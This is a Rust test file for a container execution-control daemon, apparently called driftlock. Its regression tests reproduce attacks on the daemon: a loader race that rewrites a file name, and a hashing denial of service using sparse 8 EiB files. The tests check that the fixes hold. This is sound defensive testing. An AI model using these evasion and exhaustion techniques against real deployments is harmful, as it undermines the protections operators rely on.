        "loader race: {attempts} direct loader calls with a thread rewriting the name: {}, {direct} denied as direct-loader",
        t.trim()
    ));
    assert_eq!(t.trim(), "ran 0", "the payload ran through the loader");
    assert!(direct > 0, "{}", status["stats"]);
}

/// Issue 14 (4): hashing as a node-wide CPU and availability attack. A container whose
/// misses must be hashed (an operator allow entry without a size) execs 64 sparse 8 EiB
/// files at once. Before the fix its jobs filled the whole pool and the unbounded queue,
/// each worker read zeros for up to 120 s, and another container's first execs (misses)
/// waited behind them past their budget and were denied. Now each unit has a share of the
/// pool and a bounded backlog, and a worker stops at twice the exec's budget: the other
/// container's misses are answered, correctly, at once.
#[test]
fn issue_14_one_containers_hashing_cannot_starve_anothers_misses() {
    use crate::support::{EPERM, IMAGE, exec};
    use std::time::{Duration, Instant};
    if !root_or_skip("issue 14 pool share") {
        return;
    }
    let mut sb = Sandbox::new("issue14share");
    // A second container: its own overlay over a copy of the image.
    let (lower2, upper2, work2, root2) = (
        sb.dir.join("lower2"),
        sb.dir.join("upper2"),
        sb.dir.join("work2"),
        sb.dir.join("rootfs2"),
    );
    for d in [&lower2.join("bin"), &upper2, &work2, &root2] {
        fs::create_dir_all(d).unwrap();
    }
    for src in IMAGE {
        sb.install(
            src,
            &lower2.join("bin").join(Path::new(src).file_name().unwrap()),
        );
    }
    mount_overlay(&[&lower2], &upper2, &work2, &root2);
    let config = sb.dir.join("config.toml");
    fs::write(
        &config,
        format!(
            "[[allow]]\nimage = \"hog\"\nblake3 = \"{}\"\ncomment = \"no size: every miss of this image is hashed\"\n",
            "ab".repeat(32)
        ),
    )
    .unwrap();
    sb.start_daemon(&["--config", config.to_str().unwrap()]);
    sb.arm("hog", &["--image-name", "hog"]);
    let out = sb.client(&["arm", "--id", "victim", "--rootfs", root2.to_str().unwrap()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let files: Vec<_> = (0..64)
        .map(|i| {
            let p = sb.tmp.join(format!("sparse-{i}"));
            fs::File::create(&p)
                .unwrap()
                .set_len(i64::MAX as u64)
                .unwrap();
            sb.install_mode(&p);
            p
        })
        .collect();
    let cpu = |pid: u32| -> f64 {
        let stat = fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
        let rest = &stat[stat.rfind(')').unwrap() + 2..];
        let f: Vec<u64> = rest.split(' ').filter_map(|x| x.parse().ok()).collect();
        // utime and stime are fields 14 and 15 (11 and 12 after the state and the name).
        (f[10] + f[11]) as f64 / 100.0
    };
    let cpu0 = cpu(sb.daemon_pid());
    let started = Instant::now();
    let victim_bins: Vec<_> = IMAGE
        .iter()
        .map(|src| root2.join("bin").join(Path::new(src).file_name().unwrap()))
        .collect();
    // The other container's misses: each a fresh copy of one of its image programs (a new
    // inode: hashed). Written before the hog's threads fork: a child forked while a copy is
    // open for writing holds that writer until its own exec, and the copy's exec would
    // fail ETXTBSY (a race of this test's process, not of the daemon).
    let copies: Vec<_> = (0..20)
        .map(|i| {
            let bin = &victim_bins[i % 2];
            let copy = root2.join(format!("copy-{i}"));
            sb.install(bin.to_str().unwrap(), &copy);
            (bin.clone(), copy)
        })
        .collect();
    let (hog, victim) = std::thread::scope(|s| {
        let hog: Vec<_> = files.iter().map(|p| s.spawn(move || exec(p))).collect();
        // Let the hog's jobs take the pool, then time the other container's misses.
        std::thread::sleep(Duration::from_millis(300));
        let mut victim = Vec::new();
        for (bin, copy) in &copies {
            let t = Instant::now();
            let result = if bin.ends_with("true") {
                exec(copy)
            } else {
                // cat with no input: exits 0.
                Command::new(copy)
                    .stdin(Stdio::null())
                    .status()
                    .map(|s| s.code().unwrap_or(-1))
                    .map_err(|e| e.raw_os_error().unwrap_or(0))
            };
            victim.push((result, t.elapsed()));
        }
        let hog: Vec<_> = hog.into_iter().map(|h| h.join().unwrap()).collect();
        (hog, victim)
    });
    // Wait for the workers to stop, to take the episode's CPU.
    let quiet = Instant::now() + Duration::from_secs(15);
    while sb.status_json()["in_flight"].as_u64().unwrap_or(1) > 0 && Instant::now() < quiet {
        std::thread::sleep(Duration::from_millis(100));
    }
    let episode = started.elapsed();
    let used = cpu(sb.daemon_pid()) - cpu0;
    let mut lat: Vec<Duration> = victim.iter().map(|v| v.1).collect();
    lat.sort();
    let stats = sb.status_json()["stats"].clone();
    figure(&format!(
        "pool share: 64 sparse 8 EiB files hashed by one container; the other's 20 misses: median {:?}, worst {:?}; \
         daemon CPU {used:.1} s over the {episode:?} episode; {} misses backlogged",
        lat[lat.len() / 2],
        lat[lat.len() - 1],
        stats["hash_backlogged"]
    ));
    assert!(hog.iter().all(|r| *r == EPERM), "{hog:?}");
    for (i, (r, took)) in victim.iter().enumerate() {
        assert_eq!(*r, Ok(0), "miss {i} of the other container, after {took:?}");
    }
    assert!(
        lat[lat.len() - 1] < Duration::from_secs(2),
        "the other container's misses waited past their budget: {lat:?}"
    );
    assert!(stats["hash_backlogged"].as_u64().unwrap() > 0, "{stats}");
    sb.kill_daemon();
    let _ = Command::new("umount").arg(&root2).status();
}

/// Issue 14 (8): the shipped unit broke features it documents: `RestrictAddressFamilies=
/// AF_UNIX` refused the TCP sockets of `--metrics-addr` and `--falcosidekick-url`, the
/// daemon exited, and systemd restart-looped it. The daemon now runs here under the unit's
/// own restrictions, read from `systemd/driftlock.service` (its capability bounding set, no
/// new privileges, and its address families through a seccomp filter as systemd applies
/// them), with every documented output on, and each works. The old unit's families stop
/// the daemon at start (the check bites).
#[test]
fn issue_14_every_documented_output_works_under_the_units_restrictions() {
    use crate::support::{EPERM, PAYLOAD_SOURCE, exec};
    use std::io::{Read, Write};
    if !root_or_skip("issue 14 unit restrictions") {
        return;
    }
    let unit = fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/systemd/driftlock.service"
    ))
    .unwrap();
    let setting = |key: &str| -> String {
        unit.lines()
            .find_map(|l| l.strip_prefix(key))
            .unwrap_or_else(|| panic!("{key} in the unit"))
            .trim()
            .to_string()
    };
    let families = setting("RestrictAddressFamilies=").replace(' ', ",");
    let caps: Vec<String> = setting("CapabilityBoundingSet=")
        .split_whitespace()
        .map(|c| format!("+{}", c.trim_start_matches("CAP_").to_lowercase()))
        .collect();
    assert_eq!(setting("NoNewPrivileges="), "yes");
    let mut sb = Sandbox::new("issue14unit");
    let restrict = sb.dir.join("restrict-af");
    let cc = Command::new("cc")
        .args(["-O1", "-o"])
        .arg(&restrict)
        .arg(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/testdata/restrict-af.c"
        ))
        .output()
        .unwrap();
    assert!(
        cc.status.success(),
        "{}",
        String::from_utf8_lossy(&cc.stderr)
    );
    let port = crate::support::free_port();
    let metrics = format!("127.0.0.1:{port}");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let falco = format!("http://{}/", listener.local_addr().unwrap());
    let indicators = sb.dir.join("indicators.txt");
    fs::write(&indicators, format!("{} test\n", "0".repeat(64))).unwrap();
    let outputs = [
        "--metrics-addr",
        &metrics,
        "--falcosidekick-url",
        &falco,
        "--indicators",
        indicators.to_str().unwrap(),
    ];
    // The unit as it was: AF_UNIX only. The documented outputs cannot work: metrics cannot
    // bind (the daemon enforces regardless and says why in status; it used to exit).
    let old_sock = sb.dir.join("old.sock");
    let mut old = Command::new(&restrict)
        .args(["AF_UNIX", "--", crate::support::BIN, "daemon", "--socket"])
        .arg(&old_sock)
        .arg("--state-dir")
        .arg(sb.dir.join("old-state"))
        .args(outputs)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let metrics_state = || -> String {
        let out = Command::new(crate::support::BIN)
            .args(["status", "--json", "--socket"])
            .arg(&old_sock)
            .output()
            .unwrap();
        serde_json::from_slice::<serde_json::Value>(&out.stdout)
            .ok()
            .and_then(|v| v["metrics"].as_str().map(str::to_string))
            .unwrap_or_default()
    };
    let until = std::time::Instant::now() + std::time::Duration::from_secs(20);
    let mut said = metrics_state();
    while !said.contains("cannot bind") && std::time::Instant::now() < until {
        std::thread::sleep(std::time::Duration::from_millis(50));
        said = metrics_state();
    }
    let _ = old.kill();
    let _ = old.wait();
    assert!(
        said.contains("cannot bind"),
        "the old unit's families keep metrics from binding, and status says so: {said:?}"
    );
    let bounding = format!("--bounding-set=-all,{}", caps.join(","));
    let restrict_s = restrict.to_str().unwrap().to_string();
    sb.start_daemon_via(
        &["setpriv", &bounding, "--", &restrict_s, &families, "--"],
        &outputs,
    );
    sb.arm("u1", &[]);
    let payload = sb.tmp.join("p");
    sb.install(PAYLOAD_SOURCE, &payload);
    assert_eq!(exec(&payload), EPERM);
    assert_eq!(exec(&sb.rootfs.join("bin/true")), Ok(0));
    // Falcosidekick gets the alert.
    listener.set_nonblocking(false).unwrap();
    let (mut s, _) = listener.accept().unwrap();
    s.set_read_timeout(Some(std::time::Duration::from_secs(10)))
        .unwrap();
    let mut buf = [0u8; 8192];
    let n = s.read(&mut buf).unwrap();
    assert!(
        String::from_utf8_lossy(&buf[..n]).starts_with("POST / HTTP/1.1"),
        "falcosidekick"
    );
    let _ = s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
    // Metrics are served.
    let mut m = std::net::TcpStream::connect(&metrics).unwrap();
    m.write_all(b"GET /metrics HTTP/1.0\r\n\r\n").unwrap();
    let mut body = String::new();
    m.read_to_string(&mut body).unwrap();
    assert!(body.starts_with("HTTP/1.0 200 OK"), "{body}");
    assert!(
        body.contains("driftlock_execs_total{verdict=\"deny\"} 1"),
        "{body}"
    );
    assert!(sb.daemon_alive());
}

/// Issue 15: on a kernel that refuses BPF LSM programs (this machine's), the daemon starts,
/// says once that the mapping gate is unavailable and why, and `status` and the metrics
/// show it; everything else runs as before (the rest of this suite). The gate itself is
/// tested in Debian-kernel guests (`scripts/guest-test`).
#[test]
fn issue_15_where_the_kernel_refuses_the_mapping_gate_the_daemon_says_so() {
    use std::io::{Read, Write};
    if !root_or_skip("issue 15 degraded") {
        return;
    }
    let loads = fs::read_to_string("/sys/kernel/security/lsm").unwrap_or_default();
    let port = crate::support::free_port();
    let addr = format!("127.0.0.1:{port}");
    let mut sb = Sandbox::new("issue15degraded");
    sb.start_daemon(&["--metrics-addr", &addr]);
    let status = sb.status_json();
    let gate = status["mapping_gate"].as_str().unwrap().to_string();
    let mut m = std::net::TcpStream::connect(&addr).unwrap();
    m.write_all(b"GET /metrics HTTP/1.0\r\n\r\n").unwrap();
    let mut body = String::new();
    m.read_to_string(&mut body).unwrap();
    figure(&format!("issue 15 on this kernel: mapping gate {gate}"));
    if gate.starts_with("active") {
        // A kernel that runs the gate (not this project's CI machine): nothing to check here.
        eprintln!(
            "the mapping gate is active on this kernel ({loads}); degraded path not exercised"
        );
        let _ = Command::new(crate::support::BIN).arg("gate-unpin").status();
        return;
    }
    assert!(gate.starts_with("unavailable: "), "{gate}");
    assert!(body.contains("driftlock_mapping_gate_active 0"), "{body}");
    // The text tells what is missing.
    let text = String::from_utf8_lossy(&sb.client(&["status"]).stdout).to_string();
    assert!(text.contains("mapping gate: unavailable"), "{text}");
    // Execs are judged as before.
    sb.arm("c1", &[]);
    assert_eq!(crate::support::exec(&sb.rootfs.join("bin/true")), Ok(0));
    let p = sb.install_payload();
    assert_eq!(crate::support::exec(&p), crate::support::EPERM);
}

/// Issue 26 (10): a container's lower layer that is a directory of the user's, not a layer
/// of a runtime's store (Podman's `--rootfs DIR:O`), may change between two containers of
/// the same lowerdir string. Before the fix the store key was that string alone, so the
/// second container got the first one's baseline: a program added to the directory was
/// denied, and one removed from it stayed allowed.
#[test]
fn issue_26_a_changed_mutable_lower_layer_is_snapshotted_again() {
    use crate::support::{EPERM, exec};
    if !root_or_skip("issue 26 mutable lower layer") {
        return;
    }
    let mut sb = Sandbox::new("issue26mutable");
    let base = sb.dir.clone();
    let d = |n: &str| base.join(n);
    let layer = d("rootfs-dir");
    fs::create_dir_all(layer.join("bin")).unwrap();
    sb.install("/usr/bin/true", &layer.join("bin/true"));
    sb.start_daemon(&[]);
    let arm_over = |sb: &Sandbox, id: &str| -> std::path::PathBuf {
        let (upper, work, merged) = (d(&format!("{id}-u")), d(&format!("{id}-w")), d(id));
        for p in [&upper, &work, &merged] {
            fs::create_dir_all(p).unwrap();
        }
        mount_overlay(&[&layer], &upper, &work, &merged);
        let out = sb.client(&["arm", "--id", id, "--rootfs", merged.to_str().unwrap()]);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        merged
    };
    let first = arm_over(&sb, "first");
    assert_eq!(exec(&first.join("bin/true")), Ok(0));
    assert!(sb.client(&["disarm", "--id", "first"]).status.success());
    let _ = Command::new("umount").arg(&first).status();
    // The user changes the directory: a program added, `true` replaced by other content.
    sb.install("/usr/bin/id", &layer.join("bin/id"));
    fs::remove_file(layer.join("bin/true")).unwrap();
    sb.install("/usr/bin/env", &layer.join("bin/true"));
    let second = arm_over(&sb, "second");
    assert_eq!(exec(&second.join("bin/id")), Ok(0), "the program added");
    fs::create_dir_all(second.join("tmp")).unwrap();
    sb.install("/usr/bin/true", &second.join("tmp/old-true"));
    assert_eq!(
        exec(&second.join("tmp/old-true")),
        EPERM,
        "the content the directory no longer holds"
    );
    sb.kill_daemon();
    let _ = Command::new("umount").arg(&second).status();
}
